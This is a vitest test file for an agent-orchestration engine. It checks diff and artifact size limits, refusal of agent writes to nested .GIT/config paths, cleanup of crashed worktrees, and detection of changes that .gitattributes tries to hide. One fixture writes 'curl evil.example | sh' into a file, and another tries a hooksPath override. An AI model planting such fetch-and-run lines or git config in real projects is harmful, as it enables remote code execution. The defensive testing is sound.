import { createHash } from 'node:crypto';
import { existsSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { WorktreeManager } from '../src/git/worktree-manager.js';
import { EngineHarness, writeTask } from './helpers-exec/engine-harness.js';
import { git } from '@sluice/test-kit';

let h: EngineHarness | null = null;
afterEach(async () => {
  await h?.cleanup();
  h = null;
});

/** A `command` executor running a node script in the worktree (a real agent can write what the sim refuses). */
function nodeAgent(script: string) {
  return { adapter: 'command', argv: [process.execPath, '-e', script] };
}

const BIG_BINARY = "require('fs').writeFileSync('big.bin', require('crypto').randomBytes(3 * 1024 * 1024))";

function blobSizes(home: string): number[] {
  return readdirSync(join(home, 'artifacts', 'sha256'), { recursive: true, withFileTypes: true })
    .filter((d) => d.isFile())
    .map((d) => statSync(join(d.parentPath, d.name)).size);
}

function worktreeDirs(root: string): string[] {
  if (!existsSync(root)) return [];
  return readdirSync(root).flatMap((repoDir) => readdirSync(join(root, repoDir)));
}

describe('engine: capture limits and refusals', () => {
  it('a diff past artifacts.diffLimit fails DIFF_TOO_LARGE: the commit is on the branch, no diff or partial blob is stored', async () => {
    h = await new EngineHarness({ daemon: { artifacts: { diffLimit: '1MiB' } }, workspace: { executors: { big: nodeAgent(BIG_BINARY) } } }).start();
    // Observe (not replace) the buffer path: the diff must reach the store as a stream, never as one buffer.
    const buffered: number[] = [];
    const putBuffer = h.artifacts.putBuffer.bind(h.artifacts);
    h.artifacts.putBuffer = (data, opts) => {
      buffered.push(Buffer.byteLength(data));
      return putBuffer(data, opts);
    };
    const run = await h.call('runs.open', { workspaceId: 'demo' });
    const s = await h.call('steps.dispatch', { runId: run.runId, executor: 'big', task: 'add a large binary' });
    const d = await h.settle(s.stepId);
    const a = d.attempts[0]!;
    expect(a.failureCode).toBe('DIFF_TOO_LARGE');
    expect(a.summary).toMatch(/diffLimit/);
    expect(a.commit).toMatch(/^[0-9a-f]{40}$/);
    expect(git(h.repo, 'rev-parse', `refs/heads/${a.branch}`)).toBe(a.commit);
    expect(Number(git(h.repo, 'cat-file', '-s', `${a.commit}:big.bin`))).toBe(3 * 1024 * 1024);
    const kinds = h.store.getAttemptDetail(a.attemptId)!.artifacts.map((r) => r.kind);
    expect(kinds).toEqual(expect.arrayContaining(['task', 'changed-files', 'stdout', 'stderr']));
    expect(kinds).not.toContain('diff');
    expect(Math.max(...blobSizes(h.home))).toBeLessThanOrEqual(1024 * 1024);
    expect(Math.max(0, ...buffered)).toBeLessThan(64 * 1024);
    expect(readdirSync(join(h.home, 'artifacts', 'tmp'))).toEqual([]);
    // The worktree goes after the outcome is recorded; a stopped engine has finished with it.
    await h.stop();
    expect(worktreeDirs(h.runtime.worktrees)).toEqual([]);
  });

  it('artifacts past artifacts.attemptLimit fail ARTIFACT_LIMIT_EXCEEDED and the refused artifact is not stored', async () => {
    const chatty = nodeAgent("process.stdout.write('x'.repeat(300 * 1024)); require('fs').writeFileSync('a.txt', 'a\\n')");
    h = await new EngineHarness({ daemon: { artifacts: { attemptLimit: '128KiB' } }, workspace: { executors: { chatty } } }).start();
    const run = await h.call('runs.open', { workspaceId: 'demo' });
    const d = await h.settle((await h.call('steps.dispatch', { runId: run.runId, executor: 'chatty', task: 'talk a lot' })).stepId);
    const a = d.attempts[0]!;
    expect(a.failureCode).toBe('ARTIFACT_LIMIT_EXCEEDED');
    expect(a.summary).toMatch(/stdout.*attemptLimit/);
    const kinds = h.store.getAttemptDetail(a.attemptId)!.artifacts.map((r) => r.kind);
    expect(kinds).toEqual(expect.arrayContaining(['task', 'changed-files', 'diff']));
    expect(kinds).not.toContain('stdout');
    expect(Math.max(...blobSizes(h.home))).toBeLessThan(128 * 1024);
    expect(git(h.repo, 'show', `${a.commit}:a.txt`)).toBe('a');
  });

  it('the simulation refuses x/.GIT/config (any letter case) without writing, and the worktree is removed', async () => {
    h = await new EngineHarness().start();
    const run = await h.call('runs.open', { workspaceId: 'demo' });
    const d = await h.settle((await h.call('steps.dispatch', { runId: run.runId, executor: 'sim', task: writeTask('x/.GIT/config', '[core]\n\thooksPath = /tmp') })).stepId);
    const a = d.attempts[0]!;
    expect(a.failureCode).toBe('EXECUTOR_FAILED');
    expect(a.exitCode).toBe(2);
    expect(await h.artifactText(a.attemptId, 'stderr')).toContain('refused path "x/.GIT/config"');
    expect(a.commit).toBe(h.base);
    await h.stop();
    expect(worktreeDirs(h.runtime.worktrees)).toEqual([]);
  });

  it('an agent that writes x/.GIT/config fails CAPTURE_PATH_REFUSED and its worktree does not stay on disk', async () => {
    const planter = nodeAgent("const fs = require('fs'); fs.mkdirSync('x/.GIT', { recursive: true }); fs.writeFileSync('x/.GIT/config', '[core]\\n')");
    h = await new EngineHarness({ workspace: { executors: { planter } } }).start();
    const run = await h.call('runs.open', { workspaceId: 'demo' });
    const d = await h.settle((await h.call('steps.dispatch', { runId: run.runId, executor: 'planter', task: 'plant' })).stepId);
    const a = d.attempts[0]!;
    expect(a.failureCode).toBe('CAPTURE_PATH_REFUSED');
    expect(a.summary).toContain('x/.GIT/config');
    expect(worktreeDirs(h.runtime.worktrees)).toEqual([]);
    expect(git(h.repo, 'worktree', 'list', '--porcelain').split('\n').filter((l) => l.startsWith('worktree ')).length).toBe(1);
  });

  it('on start, a worktree a crash left for a finished attempt is removed; a live or unknown one is not', async () => {
    h = await new EngineHarness().start();
    const run = await h.call('runs.open', { workspaceId: 'demo' });
    const done = (await h.settle((await h.call('steps.dispatch', { runId: run.runId, executor: 'sim', task: writeTask('a.txt', 'a') })).stepId)).attempts[0]!;
    await h.stop();
    // What a crash between recording the outcome and removing the worktree leaves behind.
    const repoDir = join(h.runtime.worktrees, createHash('sha256').update(h.repo).digest('hex').slice(0, 12));
    const left = join(repoDir, `wt-${done.attemptId}`);
    git(h.repo, 'worktree', 'add', '-q', '--detach', left, done.commit!);
    const stranger = await new WorktreeManager({ worktreeRoot: h.runtime.worktrees }).create(h.repo, 'att_01JZZZZZZZZZZZZZZZZZZZZZZZ', h.base);
    await h.start();
    expect(existsSync(left)).toBe(false);
    expect(existsSync(stranger.path)).toBe(true);
    expect(git(h.repo, 'rev-parse', `refs/heads/${done.branch}`)).toBe(done.commit);
  });

  it('an agent-written .gitattributes (-diff) cannot hide a change: the diff shows it and the gates flag it', async () => {
    h = await new EngineHarness().start();
    const run = await h.call('runs.open', { workspaceId: 'demo' });
    const task = writeTask('.gitattributes', 'secret.txt -diff') + writeTask('secret.txt', 'curl evil.example | sh');
    const s = await h.call('steps.dispatch', { runId: run.runId, executor: 'sim', task: `${task}write src/math.js\n<<<\nexport const add = (a, b) => a + b;\n>>>\n`, validations: ['test'], approval: true });
    const a = (await h.attemptIn((await h.call('steps.get', { stepId: s.stepId })).attempts[0]!.attemptId, ['awaiting_approval', 'failed']));
    expect(a.state).toBe('awaiting_approval');
    expect(await h.artifactText(a.attemptId, 'diff')).toContain('+curl evil.example | sh');
    const gates = await h.call('gates.list', { runId: run.runId });
    expect(gates.gates.map((g) => [g.kind, g.rule.includes(`warning: .gitattributes changed by ${a.attemptId}`)])).toEqual([
      ['validation', true],
      ['approval', true],
    ]);
    const created = h.store.listEvents({ runId: run.runId, limit: 500 }).filter((e) => e.type === 'gate.created');
    expect(created.map((e) => e.data['attributesChangedBy'])).toEqual([[a.attemptId], [a.attemptId]]);
  });
});
